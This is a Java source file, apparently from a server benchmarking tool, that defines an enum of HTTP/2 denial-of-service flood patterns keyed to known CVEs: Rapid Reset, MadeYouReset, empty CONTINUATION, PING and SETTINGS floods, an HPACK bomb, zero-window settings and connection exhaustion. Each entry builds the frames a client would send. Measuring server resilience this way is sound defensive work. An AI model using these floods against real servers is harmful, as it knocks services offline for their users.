package dev.widgetorigin.bench.floods;

/** A way to make a server work for nothing. */
enum Flood {
  /** What two quiet seconds differ by. */
  NOTHING("(nothing)", 0) {
    @Override
    byte[] round(int i, String path) {
      return new byte[0];
    }
  },
  RAPID_RESET("rapid reset (CVE-2023-44487)", 4096) {
    @Override
    byte[] round(int i, String path) {
      int stream = 2 * i + 1;
      return Frames.join(
          Frames.headers(Frames.END_STREAM | Frames.END_HEADERS, stream, Frames.block(false, path)),
          Frames.reset(stream));
    }
  },
  MADE_YOU_RESET("made you reset (CVE-2025-8671)", 4096) {
    @Override
    byte[] round(int i, String path) {
      int stream = 2 * i + 1;
      return Frames.join(
          Frames.headers(Frames.END_HEADERS, stream, Frames.block(true, path)),
          Frames.windowUpdate(stream, 0));
    }
  },
  EMPTY_CONTINUATION("empty CONTINUATION (CVE-2024-27316)", 4096) {
    @Override
    byte[] round(int i, String path) {
      return i == 0 ? Frames.headers(0, 1, Frames.block(false, path)) : Frames.frame(9, 0, 1);
    }
  },
  PING("PING (CVE-2019-9512)", 8192) {
    @Override
    byte[] round(int i, String path) {
      return Frames.frame(6, 0, 0, new byte[8]);
    }
  },
  SETTINGS("SETTINGS (CVE-2019-9515)", 8192) {
    @Override
    byte[] round(int i, String path) {
      return Frames.frame(4, 0, 0);
    }
  },
  HPACK_BOMB("HPACK bomb", 128) {
    @Override
    byte[] round(int i, String path) {
      return Frames.headers(Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, Frames.bomb(path));
    }
  },
  ZERO_WINDOWS("zero windows", 128) {
    @Override
    byte[] setting() {
      return Frames.setting(4, 0);
    }

    @Override
    byte[] round(int i, String path) {
      return get(i, path);
    }
  },
  TINY_HEADER_LIST("tiny MAX_HEADER_LIST_SIZE", 4096) {
    @Override
    byte[] setting() {
      return Frames.setting(6, 1);
    }

    @Override
    byte[] round(int i, String path) {
      return get(i, path);
    }
  },
  /** No frames to speak of: what the server pays for connections alone. */
  CONNECTIONS("connections, opened and left", 0) {
    @Override
    byte[] round(int i, String path) {
      return new byte[0];
    }
  };

  final String title;

  /** So many are sent on a connection, if it is not cut before. */
  final int rounds;

  Flood(String title, int rounds) {
    this.title = title;
    this.rounds = rounds;
  }

  byte[] setting() {
    return new byte[0];
  }

  abstract byte[] round(int i, String path);

  private static byte[] get(int i, String path) {
    return Frames.headers(
        Frames.END_STREAM | Frames.END_HEADERS, 2 * i + 1, Frames.block(false, path));
  }
}
